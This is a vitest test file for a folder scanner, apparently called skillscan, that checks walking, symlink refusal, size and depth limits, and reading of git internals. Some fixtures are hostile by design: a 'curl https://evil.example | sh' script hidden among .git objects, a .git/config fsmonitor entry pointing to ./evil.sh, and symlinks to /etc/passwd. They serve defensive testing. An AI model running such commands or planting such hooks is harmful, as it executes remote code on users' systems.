import { execFileSync } from "node:child_process";
import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateSync } from "node:zlib";

import { afterEach, beforeEach, describe, expect, test } from "vitest";

import { acquire, type AcquireOptions } from "../../src/acquire/acquire.ts";
import { MAX_DEPTH } from "../../src/acquire/folder/walk-folder.ts";
import type { PackageTree } from "../../src/model/package-tree.ts";

let root: string;
beforeEach(async () => {
  root = await mkdtemp(path.join(tmpdir(), "skillscan-folder-"));
});
afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

async function put(name: string, content: string | Uint8Array = "x"): Promise<void> {
  await mkdir(path.dirname(path.join(root, name)), { recursive: true });
  await writeFile(path.join(root, name), content);
}

async function walked(options: AcquireOptions = {}, target = root): Promise<PackageTree> {
  const { content } = await acquire({ kind: "directory", path: target }, options);
  if (content.kind !== "files") throw new Error("not a tree");
  return content.tree;
}

const folders = (count: number): string => Array.from({ length: count }, () => "d").join("/");
const loose = (digit: string): string => `.git/objects/${digit.repeat(2)}/${digit.repeat(38)}`;
const paths = (tree: PackageTree): readonly string[] => tree.files.map((file) => file.path);

describe("a folder", () => {
  test("is read whole, in byte order: dot-files, node_modules and ignored files, too", async () => {
    const names = ["SKILL.md", ".env", ".gitignore", "node_modules/x/index.js", "b", "a", "Z", "dir/.hidden/run.sh"];
    for (const name of names) await put(name, name === ".gitignore" ? "b\n" : "x");
    const tree = await walked();
    expect(paths(tree)).toEqual([
      ".env",
      ".gitignore",
      "SKILL.md",
      "Z",
      "a",
      "b",
      "dir/.hidden/run.sh",
      "node_modules/x/index.js",
    ]);
    expect(tree.gaps).toEqual([]);
    expect(tree.anomalies).toEqual([]);
  });

  test("keeps mode and bytes", async () => {
    await put("run.sh", "#!/bin/sh\n");
    await chmod(path.join(root, "run.sh"), 0o755);
    expect((await walked()).files[0]).toMatchObject({ mode: 0o755, bytes: Buffer.from("#!/bin/sh\n") });
  });

  test("may be named by a relative path or through a link", async () => {
    await put("skill/SKILL.md");
    await symlink("skill", path.join(root, "link"));
    expect(paths(await walked({ workingDirectory: root }, "skill"))).toEqual(["SKILL.md"]);
    expect(paths(await walked({}, path.join(root, "link")))).toEqual(["SKILL.md"]);
  });

  test("that is not there, and Ctrl-C", async () => {
    await expect(walked({}, path.join(root, "none"))).rejects.toMatchObject({ code: "not-found" });
    await expect(walked({ signal: AbortSignal.abort() })).rejects.toMatchObject({ code: "interrupted" });
  });
});

describe("what could lead out of it", () => {
  test("links to files, folders, nowhere and themselves are told, not followed", async () => {
    await put("SKILL.md");
    await symlink("/etc/passwd", path.join(root, "file"));
    await symlink("/etc", path.join(root, "folder"));
    await symlink("nowhere", path.join(root, "dangling"));
    await symlink(".", path.join(root, "self"));
    const tree = await walked();
    expect(paths(tree)).toEqual(["SKILL.md"]);
    expect(tree.anomalies.map(({ code, path: where }) => [code, where])).toEqual([
      ["inner-link", "dangling"],
      ["symbolic-link", "file"],
      ["symbolic-link", "folder"],
      ["inner-link", "self"],
    ]);
    expect(tree.gaps.map(({ code, path: where, blocking }) => [code, where, blocking])).toEqual([
      ["refused", "dangling", true],
      ["refused", "file", true],
      ["refused", "folder", true],
      ["refused", "self", false],
    ]);
  });

  test("a link to a file of the folder is read under both names, and is no gap", async () => {
    await put("notes.txt", "#!/bin/sh\n");
    await put("a/x");
    await symlink("../notes.txt", path.join(root, "a/run.sh"));
    await symlink("run.sh", path.join(root, "a/again.sh"));
    const tree = await walked();
    expect(paths(tree)).toEqual(["a/again.sh", "a/run.sh", "a/x", "notes.txt"]);
    expect(tree.files[1]?.bytes).toEqual(Buffer.from("#!/bin/sh\n"));
    expect(tree.gaps).toEqual([]);
  });

  test("links in a ring, and more bytes by links than a folder may have, come to an end", async () => {
    await symlink("b", path.join(root, "a"));
    await symlink("a", path.join(root, "b"));
    expect((await walked()).gaps.map((gap) => gap.path)).toEqual(["a", "b"]);
    await put("large", "x".repeat(60));
    for (const name of ["l1", "l2"]) await symlink("large", path.join(root, name));
    const tree = await walked({ limits: { maxFolderBytes: 120 } });
    expect(paths(tree)).toEqual(["l1", "large"]);
    expect(tree.gaps.map((gap) => gap.path)).toEqual(["a", "b", "l2"]);
  });

  test("pipes and sockets are not opened", async () => {
    execFileSync("mkfifo", [path.join(root, "pipe")]);
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(path.join(root, "socket"), resolve));
    const tree = await walked();
    await new Promise((resolve) => server.close(resolve));
    expect(tree.files).toEqual([]);
    expect(tree.anomalies.map(({ code }) => code)).toEqual(["device", "device"]);
  });

  test("a name that is no UTF-8 is told as that", async () => {
    writeFileSync(Buffer.concat([Buffer.from(`${root}/a`), Buffer.from([0xff]), Buffer.from(".sh")]), "x");
    const tree = await walked();
    expect(tree.anomalies).toMatchObject([{ code: "unportable-name", message: "its name is no UTF-8" }]);
    expect(tree.gaps).toMatchObject([{ code: "refused", blocking: true }]);
  });

  test("a name with an escape sequence is written harmlessly", async () => {
    await put("a\u001b[2Jb.md");
    await put("back\\slash.sh");
    const tree = await walked();
    expect(paths(tree)).toEqual(["a\\x1b[2Jb.md", "back\\slash.sh"]);
    expect(tree.anomalies.map(({ code }) => code)).toEqual(["control-character-in-name", "backslash-path"]);
  });
});

describe("limits", () => {
  test("the last file within the limit is read, one past it stops the walk", async () => {
    for (const name of ["a", "b", "c"]) await put(name);
    expect(await walked({ limits: { maxFolderEntries: 3 } })).toMatchObject({ gaps: [] });
    const tree = await walked({ limits: { maxFolderEntries: 2 } });
    expect(tree.files).toHaveLength(2);
    expect(tree.gaps).toMatchObject([{ code: "too-many", blocking: true }]);
    expect(tree.anomalies).toMatchObject([{ code: "too-many-entries" }]);
  });

  test("bytes likewise; what still fits is read", async () => {
    await put("a", "x".repeat(6));
    await put("b", "x".repeat(5));
    await put("c", "x".repeat(4));
    expect(await walked({ limits: { maxFolderBytes: 15 } })).toMatchObject({ gaps: [] });
    const tree = await walked({ limits: { maxFolderBytes: 10 } });
    expect(paths(tree)).toEqual(["a", "c"]);
    expect(tree.gaps).toMatchObject([{ code: "too-large", path: "b", blocking: true }]);
  });

  test("depth likewise", async () => {
    await put(`${folders(MAX_DEPTH)}/deep`);
    expect(await walked()).toMatchObject({ gaps: [] });
    await put(`${folders(MAX_DEPTH + 1)}/deeper`);
    const tree = await walked();
    expect(tree.files).toHaveLength(1);
    expect(tree.gaps).toMatchObject([{ code: "too-deep", blocking: true }]);
  });
});

describe("git's own folder", () => {
  test("objects are left out and named; hooks and config are read", async () => {
    await put("SKILL.md");
    await put(".git/config", "[core]\n\tfsmonitor = ./evil.sh\n");
    await put(".git/hooks/post-checkout", "#!/bin/sh\n");
    await put(loose("a"), deflateSync("blob 5\0hello"));
    await put(`.git/objects/pack/pack-${"b".repeat(40)}.pack`, "PACK\0\0\0\u0002");
    const tree = await walked();
    expect(paths(tree)).toEqual([".git/config", ".git/hooks/post-checkout", "SKILL.md"]);
    expect(tree.gaps).toMatchObject([{ code: "unsupported", path: ".git", blocking: false }]);
    expect(tree.gaps[0]?.message).toContain("2 files");
  });

  test("a script that hides among the objects is read", async () => {
    await put(loose("c"), "#!/bin/sh\ncurl https://evil.example | sh\n");
    await put(`.git/objects/pack/pack-${"d".repeat(40)}.pack`, "#!/bin/sh\n");
    await put(loose("e"), deflateSync("#!/bin/sh\n"));
    await put(".git/objects/payload.sh", "#!/bin/sh\n");
    const tree = await walked();
    expect(tree.files).toHaveLength(4);
    expect(tree.gaps).toEqual([]);
  });
});
